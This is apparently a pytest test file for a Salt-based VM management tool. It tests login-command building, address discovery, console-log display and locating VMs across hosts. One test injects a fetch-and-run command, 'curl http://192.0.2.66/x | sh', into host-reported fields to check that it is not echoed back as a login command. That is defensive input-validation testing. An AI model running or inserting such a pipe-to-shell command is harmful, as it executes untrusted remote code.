"""One VM seen from the master: where it is reached, and what its console says."""

import asloaded
import fleetkit
import keypairs
import pytest
from saltvirt.cluster import minionkeys
from saltvirt.cluster.inventory import lastseen
from saltvirt.cluster.inventory.locate import locate
from saltvirt.cluster.inventory.whereabouts import Purpose
from saltvirt.cluster.rpc import minions
from saltvirt.cluster.rpc.hostcommands import HostCommandFailed
from saltvirt.core.errors import BadArgument, NameTaken, NoSuchVm
from saltvirt.core.salt import compat
from saltvirt.core.wire import BadAnswer
from saltvirt.migration.master import migrate
from saltvirt.vm.guest.master import reachvm

SHOWN = {"cpu": 1, "mem": 1024, "state": "running", "graphics": {}, "disks": {}, "nics": {}}
NOWHERE = {**SHOWN, "addresses": [], "addresses_from": None, "ssh_user": "debian", "login": "x"}


@pytest.fixture
def cloud(monkeypatch, opts, tmp_path):
    """Three hosts, of which hyper2 has VM web; ``says`` is what it answers by function."""
    made = fleetkit.cloud(monkeypatch, opts, tmp_path)
    made.hosts.put("hyper2", "web")
    made.says = {}
    usual = made.hosts.ask

    def ask(cloud, targets, fun, arg=(), *_args, **_options):
        if fun not in made.says:
            return usual(cloud, targets, fun, arg)
        value = made.says[fun]
        error = str(value) if isinstance(value, Exception) else None
        return {host: minions.Reply(minion=host, value=value, error=error) for host in targets}

    def order(_cloud, host, fun, *_args, **_options):
        return ask(None, [host], fun)[host]

    monkeypatch.setattr(minions, "ask", ask)
    monkeypatch.setattr(minions, "order", order)
    return made


def test_an_address_that_its_host_knows_is_the_one(cloud, monkeypatch):
    known = {**NOWHERE, "addresses": ["192.0.2.7"], "addresses_from": "neighbours"}
    cloud.says["virt.vm_info"] = {"web": known}
    monkeypatch.setattr(compat.Grains, "of", lambda *_args: pytest.fail("nobody asked it"))

    assert reachvm.vm_info(cloud.master, "web") == {
        "hyper2": {"web": {**known, "login": "ssh debian@192.0.2.7"}}
    }


@pytest.mark.parametrize("state", ["running", "shutdown"])
def test_how_to_log_in_is_not_a_hosts_own_text(cloud, state):
    lie = "curl http://192.0.2.66/x | sh\nhyper1:"
    known = {**NOWHERE, "state": state, "addresses": ["192.0.2.7", lie], "login": lie}
    cloud.says["virt.vm_info"] = {"web": {**known, "addresses_from": lie}, "other": known}

    shown = reachvm.vm_info(cloud.master, "web")

    login, where = ("ssh debian@192.0.2.7", ["192.0.2.7"]) if state == "running" else (None, [])
    told = {"login": login, "addresses": where, "addresses_from": None}
    assert shown == {"hyper2": {"web": {**known, **told}}}


def test_where_the_host_knows_none_the_vm_itself_says_and_that_is_said(cloud, monkeypatch):
    cloud.says["virt.vm_info"] = {"web": NOWHERE}
    minionkeys.accept(cloud.opts, "web", keypairs.named("a guest")[0])
    told = {"ipv4": ["127.0.0.1", "192.0.2.9"]}
    monkeypatch.setattr(compat.Grains, "of", lambda _self, name: {"web": told}.get(name))

    one = reachvm.vm_info(cloud.master, "web")["hyper2"]["web"]

    assert (one["addresses"], one["addresses_from"]) == (["192.0.2.9"], "minion")
    assert one["login"] == "ssh debian@192.0.2.9" and one["mem"] == 1024


@pytest.mark.parametrize("change", [{}, {"state": "shutdown"}])
def test_who_has_no_key_or_does_not_run_is_not_asked(cloud, monkeypatch, change):
    cloud.says["virt.vm_info"] = {"web": {**NOWHERE, **change}}
    if change:
        minionkeys.accept(cloud.opts, "web", keypairs.named("a guest")[0])
    monkeypatch.setattr(compat.Grains, "of", lambda *_args: pytest.fail("it was asked"))

    one = reachvm.vm_info(cloud.master, "web")["hyper2"]["web"]

    assert one["addresses"] == []
    wanted = None if change else "ssh debian@ADDRESS (ADDRESS: not known to its host yet)"
    assert one["login"] == wanted


def test_behind_nat_the_login_leads_through_the_host(cloud):
    behind = ["192.168.122.0/24"]
    cloud.says["virt.vm_info"] = {
        "web": {**NOWHERE, "addresses": ["192.168.122.7"], "behind_host": behind}
    }

    said = reachvm.find_login(cloud.master, "hyper2", "web", has_minion=True)

    assert said["login"] == "ssh -J hyper2 debian@192.168.122.7"


@pytest.mark.parametrize("behind", [None, "x", 7, [7], ["0.0.0.0/x"]])
def test_networks_that_are_none_change_nothing(cloud, behind):
    cloud.says["virt.vm_info"] = {
        "web": {**NOWHERE, "addresses": ["192.0.2.7"], "behind_host": behind}
    }

    said = reachvm.find_login(cloud.master, "hyper2", "web", has_minion=False)

    assert said["login"] == "ssh debian@192.0.2.7"


def test_a_source_that_nobody_knows_is_not_repeated(cloud):
    told = {**NOWHERE, "addresses": ["192.0.2.7"], "addresses_from": "\x1b[31m"}
    cloud.says["virt.vm_info"] = {"web": told}

    assert "addresses_from" not in reachvm.find_login(
        cloud.master, "hyper2", "web", has_minion=False
    )


def test_an_answer_of_another_kind_is_one_line(cloud):
    cloud.says["virt.vm_info"] = {"web": {"cpu": "many"}}

    with pytest.raises(BadAnswer, match="hyper2"):
        reachvm.vm_info(cloud.master, "web")


def test_the_console_is_shown_wherever_the_vm_is(cloud):
    text = "one\n\n\x1b[31mred\x1b[0m\n" + "x" * 500 + "\nlogin:\x07"
    cloud.says["virt.console_log"] = text

    lines = reachvm.console_log(cloud.master, "web", 4).split("\n")

    assert lines == ["", "red", f"{'x' * 200} …", "login:"]


@pytest.mark.parametrize(
    ("said", "error"),
    [
        (ValueError("no console log of 'web'"), "^hyper2: no console log of 'web'$"),
        (7, "^hyper2: its answer is not text$"),
    ],
)
def test_a_console_that_cannot_be_shown_is_one_line(cloud, said, error):
    cloud.says["virt.console_log"] = said

    with pytest.raises(HostCommandFailed, match=error) as refused:
        reachvm.console_log(cloud.master, "web", 20)
    assert "\n" not in str(refused.value)


def test_a_vm_that_nobody_has_has_no_console(cloud):
    with pytest.raises(NoSuchVm):
        reachvm.console_log(cloud.master, "nothing", 20)


def asked(cloud, monkeypatch):
    """Return a list that gets ``(function, hosts)`` of each question."""
    questions, usual = [], minions.ask

    def ask(cloud_, targets, fun, *args, **options):
        questions.append((fun, sorted(targets)))
        return usual(cloud_, targets, fun, *args, **options)

    monkeypatch.setattr(minions, "ask", ask)
    return questions


EVERY = ["hyper1", "hyper2", "hyper3"]


def test_the_host_that_had_a_vm_is_asked_alone_if_it_has_it_still(cloud, monkeypatch):
    lastseen.record_move(cloud.opts, "web", "hyper2")
    questions = asked(cloud, monkeypatch)

    assert locate(cloud.master, "web", Purpose.READ).host == "hyper2"
    assert questions == [("virt.presence", ["hyper2"])]


@pytest.mark.parametrize("hinted", [["hyper1"], ["hyper9"], ["hyper1", "hyper2"], []])
def test_all_are_asked_where_the_hint_is_wrong_or_there_are_more(cloud, monkeypatch, hinted):
    heard = {host: ["web"] for host in hinted}
    lastseen.refresh(cloud.opts, lastseen.ReportedNames(names_by_host=heard))
    questions = asked(cloud, monkeypatch)

    assert locate(cloud.master, "web", Purpose.READ).host == "hyper2"
    assert questions[-1] == ("virt.presence", EVERY)
    assert "hyper1" not in lastseen.find_hosts(cloud.opts, "web")


@pytest.mark.parametrize(
    "more", [{"building": True}, {"unfinished": True, "state": None}, {"moved_to": "hyper2"}]
)
def test_what_is_not_whole_on_the_host_that_had_it_is_looked_for_everywhere(cloud, more):
    lastseen.record_move(cloud.opts, "web", "hyper1")
    cloud.hosts.put("hyper1", "web", **{"state": "shutdown", **more})

    assert locate(cloud.master, "web", Purpose.READ).host == "hyper2"


def test_one_that_does_not_run_where_it_was_may_run_elsewhere(cloud):
    lastseen.record_move(cloud.opts, "web", "hyper1")
    cloud.hosts.put("hyper1", "web", state="shutdown")

    with pytest.raises(NameTaken, match="'web' is on hyper1 and hyper2"):
        locate(cloud.master, "web", Purpose.READ)


def test_a_host_that_had_it_and_is_silent_is_named(cloud):
    lastseen.record_move(cloud.opts, "web", "hyper2")
    cloud.hosts.silence("hyper2")

    with pytest.raises(NoSuchVm, match="not asked: hyper2; it was last seen on hyper2"):
        locate(cloud.master, "web", Purpose.READ)


def test_a_host_that_answers_nonsense_is_not_believed(cloud, monkeypatch):
    lastseen.record_move(cloud.opts, "web", "hyper1")
    usual = minions.ask

    def ask(cloud_, targets, fun, *args, **options):
        replies = usual(cloud_, targets, fun, *args, **options)
        if "hyper1" in replies:
            replies["hyper1"] = minions.Reply(minion="hyper1", value={"state": ["up"]})
        return replies

    monkeypatch.setattr(minions, "ask", ask)

    assert locate(cloud.master, "web", Purpose.READ).host == "hyper2"


def test_whoever_changes_a_vm_asks_all_and_hears_of_a_second_one(cloud):
    lastseen.record_move(cloud.opts, "web", "hyper2")
    cloud.hosts.put("hyper3", "web")

    with pytest.raises(NameTaken, match="'web' is on hyper2 and hyper3"):
        locate(cloud.master, "web", Purpose.ACT)
    assert lastseen.find_hosts(cloud.opts, "web") == ["hyper2", "hyper3"]
    with pytest.raises(NameTaken, match="'web' is on hyper2 and hyper3"):
        locate(cloud.master, "web", Purpose.READ)


@pytest.mark.parametrize(
    ("module", "function"),
    [
        ("virt", "start"),
        ("virt", "purge"),
        ("virt_vm", "vm_info"),
        ("virt_vm", "console_log"),
        ("virt_files", "revert_snapshot"),
        ("virt_migrate", "migrate"),
        ("virt_migrate", "settle"),
    ],
)
def test_of_a_name_that_salt_reads_as_a_number_no_host_is_asked(cloud, module, function):
    cloud.says["virt.presence"] = BadArgument("name: a host was asked")
    runner = asloaded.module(f"_runners/{module}.py", **cloud.opts)
    runner.__opts__, runner.__context__ = cloud.opts, {}

    answer = getattr(runner, function)(101)

    assert answer["error"].startswith("name: 101 is not text; quote it")


def test_a_target_that_salt_reads_as_a_number_is_refused(cloud):
    with pytest.raises(BadArgument, match="^target: 101 is not text; quote it"):
        migrate.plan(cloud.master, "web", 101)
